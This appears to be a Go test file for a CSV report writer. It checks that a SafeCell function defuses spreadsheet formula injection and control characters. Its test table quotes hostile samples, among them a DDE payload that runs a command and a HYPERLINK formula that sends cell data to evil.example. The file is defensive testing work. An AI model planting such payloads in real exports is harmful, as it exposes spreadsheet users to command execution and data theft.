package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"math"
	"os"
	"strings"
	"testing"
	"time"
)

// TestOWASP_CSVInjection checks SafeCell against the payloads of the OWASP
// "CSV Injection" page and their variants.
func TestOWASP_CSVInjection(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"DDE calc", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"plus", "+1", "'+1"},
		{"minus formula", "-1+1", "'-1+1"},
		{"negative number as text", "-1", "'-1"},
		{"at function", "@SUM(1)", "'@SUM(1)"},
		{"HYPERLINK", `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"leading tab", "\t=1+1", `'\x09=1+1`},
		{"leading CR", "\r=1+1", `'\x0D=1+1`},
		{"spaces before equals", "  =1+1", "'  =1+1"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width plus", "＋1", "'＋1"},
		{"full-width minus", "－1", "'－1"},
		{"full-width at", "＠SUM(1)", "'＠SUM(1)"},
		{"equals inside", "a=1", "a=1"},
		{"path", "/private/x?y=-1", "/private/x?y=-1"},
		{"user agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
		{"empty", "", ""},
		{"only spaces", "   ", "   "},
		{"newline inside", "a\nb", `a\x0Ab`},
		{"CRLF inside", "a\r\nb", `a\x0D\x0Ab`},
		{"escape sequence", "\x1b[31mred", `\x1B[31mred`},
		{"NUL and DEL", "a\x00b\x7f", `a\x00b\x7F`},
		{"invalid UTF-8", "bad\xff\xfe", `bad\xFF\xFE`},
		{"C1 control", "a\u0085b", `a\u0085b`},
		{"bidi override", "abc\u202Egpj.exe", `abc\u202Egpj.exe`},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"BOM", "\uFEFFx", `\uFEFFx`},
		{"unicode text kept", "Bücher – 書籍 😀", "Bücher – 書籍 😀"},
		{"escape then formula", "\n=1", `\x0A=1`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := SafeCell(c.in); got != c.want {
				t.Errorf("SafeCell(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}

func TestCSVWriter(t *testing.T) {
	var buf bytes.Buffer
	c := NewCSVWriter(&buf)
	if err := c.Header("time", "ua", "delta", "ratio", "ok", "path"); err != nil {
		t.Fatal(err)
	}
	ts := time.Date(2026, 10, 1, 14, 0, 0, 250_000_000, time.FixedZone("CEST", 2*3600))
	c.Time(ts)
	c.Text(`=cmd|' /C calc'!A0`)
	c.Int(-1)
	c.Float(-0.5, -1)
	c.Bool(true)
	c.Text("a,\"b\"\nc")
	if err := c.EndRow(); err != nil {
		t.Fatal(err)
	}
	c.Time(time.Time{})
	c.Text("-1")
	c.Uint(math.MaxUint64)
	c.Float(math.NaN(), 2)
	c.Bool(false)
	c.Float(math.Inf(-1), 2)
	if err := c.EndRow(); err != nil {
		t.Fatal(err)
	}
	c.Null()
	c.Text("@x")
	c.Int(math.MinInt64)
	c.Float(1.0/3, 3)
	c.Null()
	c.Text("")
	if err := c.EndRow(); err != nil {
		t.Fatal(err)
	}
	if err := c.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "time,ua,delta,ratio,ok,path\n" +
		"2026-10-01T12:00:00.25Z,'=cmd|' /C calc'!A0,-1,-0.5,true,\"a,\"\"b\"\"\\x0Ac\"\n" +
		",'-1,18446744073709551615,,false,\n" +
		",'@x,-9223372036854775808,0.333,,\n"
	if got := buf.String(); got != want {
		t.Errorf("CSV =\n%s\nwant\n%s", got, want)
	}
	// The output reads back as the same cells with encoding/csv.
	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 4 || recs[1][5] != `a,"b"\x0Ac` || recs[1][2] != "-1" {
		t.Errorf("read back %q", recs)
	}
}

type failWriter struct{ n int }

var errDiskFull = errors.New("disk full")

func (f *failWriter) Write(p []byte) (int, error) {
	if f.n <= 0 {
		return 0, errDiskFull
	}
	f.n--
	return len(p), nil
}

func TestCSVWriterStickyError(t *testing.T) {
	c := NewCSVWriter(&failWriter{})
	for i := range 10000 { // more than csv.Writer buffers
		c.Text(strings.Repeat("x", 100))
		c.Int(int64(i))
		c.EndRow()
	}
	if err := c.Flush(); !errors.Is(err, errDiskFull) {
		t.Errorf("Flush = %v, want %v", err, errDiskFull)
	}
	if err := c.EndRow(); !errors.Is(err, errDiskFull) {
		t.Errorf("EndRow after failure = %v, want %v", err, errDiskFull)
	}
}

func TestSafeCellNoAlloc(t *testing.T) {
	s := "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) – ü"
	if n := testing.AllocsPerRun(100, func() { _ = SafeCell(s) }); n != 0 {
		t.Errorf("SafeCell of a clean string allocates %v times", n)
	}
}

func FuzzSafeCell(f *testing.F) {
	for _, s := range []string{"=1", "-1", "a\nb", "\xff", "\u202e", " \t=", "＝"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := SafeCell(s)
		if formulaLike(got) {
			t.Errorf("SafeCell(%q) = %q still starts like a formula", s, got)
		}
		for i := 0; i < len(got); i++ {
			if b := got[i]; b < 0x20 || b == 0x7F {
				t.Fatalf("SafeCell(%q) = %q holds control byte %#x", s, got, b)
			}
		}
		for _, r := range got {
			if escapedRune(r) {
				t.Fatalf("SafeCell(%q) = %q holds %U", s, got, r)
			}
		}
		if !strings.ContainsAny(s, "=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20") && got != escapeControls(s) {
			t.Fatalf("SafeCell(%q) = %q prefixed a harmless cell", s, got)
		}
		// One record, one line: it round-trips through encoding/csv.
		var buf bytes.Buffer
		c := NewCSVWriter(&buf)
		c.Text(s)
		c.Int(-1)
		c.EndRow()
		if err := c.Flush(); err != nil {
			t.Fatal(err)
		}
		if strings.Count(buf.String(), "\n") != 1 {
			t.Fatalf("record for %q spans lines: %q", s, buf.String())
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(recs) != 1 || recs[0][0] != got || recs[0][1] != "-1" {
			t.Fatalf("round trip of %q: %q, %v", s, recs, err)
		}
	})
}

func ExampleCSVWriter() {
	c := NewCSVWriter(os.Stdout)
	c.Header("bot", "path", "delta")
	c.Text("=HYPERLINK(\"http://evil.example\")")
	c.Text("/private/\x1b[2J")
	c.Int(-3)
	c.EndRow()
	if err := c.Flush(); err != nil {
		fmt.Println(err)
	}
	// Output:
	// bot,path,delta
	// "'=HYPERLINK(""http://evil.example"")",/private/\x1B[2J,-3
}
